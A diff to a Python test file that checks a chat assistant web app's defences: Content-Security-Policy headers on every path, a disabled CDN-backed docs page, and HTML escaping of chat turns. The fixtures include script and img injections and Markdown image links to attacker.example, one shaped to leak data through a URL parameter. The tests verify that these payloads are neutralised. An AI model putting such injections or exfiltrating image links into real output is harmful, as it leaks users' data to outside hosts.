@@ -99,7 +99,12 @@ def test_allowed_origin_gets_cors_and_other_origins_are_refused(client):
     assert refused.status_code == 403
     assert "not allowed" in refused.json()["error"]
     page = client.get("/")
-    assert page.headers["content-security-policy"] == "frame-ancestors 'self' https://shop.example.com"
+    policy = page.headers["content-security-policy"].split("; ")
+    assert "frame-ancestors 'self' https://shop.example.com" in policy
+    assert "img-src 'self' data:" in policy and "connect-src 'self'" in policy and "frame-src 'self'" in policy
+    for path in ("/admin/", "/health", "/gradio.js", "/v1/models"):  # every response, not only the pages
+        assert "img-src 'self' data:" in client.get(path).headers["content-security-policy"], path
+    assert client.get("/docs").status_code == 404  # FastAPI's docs page would load its scripts from a CDN
 
 
 def test_web_component_loader_is_served_locally(client):
@@ -109,12 +114,21 @@ def test_web_component_loader_is_served_locally(client):
     assert "<gradio-app" in snippet and "<iframe" in snippet
 
 
-def test_chatview_escapes_html_but_keeps_code():
-    from assistant.chatview import escape_markdown
+def test_chatview_shows_answers_as_safe_html_but_keeps_code():
+    from assistant.chatview import turn_messages
+    from assistant.types import Source, Turn
 
-    out = escape_markdown("<script>x</script> and `a<b` and\n```\nif a < b: pass\n```")
-    assert "<script>" not in out and "&lt;script&gt;" in out
-    assert "`a<b`" in out and "if a < b: pass" in out
+    turn = Turn(user="<b>hi</b> ![u](https://attacker.example/u.png)",
+                answer="<script>x</script> and `a<b` and\n```\nif a < b: pass\n```\n"
+                       "![x](https://attacker.example/?d=1)",
+                sources=[Source("c1", "d1", "![d](https://attacker.example/d.png) <img src=x>", "<i>doc</i>.md",
+                                title="T")])
+    user, answer, sources = (m["content"] for m in turn_messages(turn))
+    assert user == "&lt;b&gt;hi&lt;/b&gt; ![u](https://attacker.example/u.png)"  # text, not Markdown
+    assert "<script>" not in answer and "&lt;script&gt;" in answer
+    assert "<code>a&lt;b</code>" in answer and "<pre><code>if a &lt; b: pass" in answer
+    assert "<img" not in answer and 'href="https://attacker.example/?d=1"' in answer
+    assert "<img" not in sources and "&lt;img src=x&gt;" in sources and "&lt;i&gt;doc&lt;/i&gt;.md" in sources
 
 
 def test_message_turn_ids_follow_the_bubbles(tiny_lm, tmp_path):
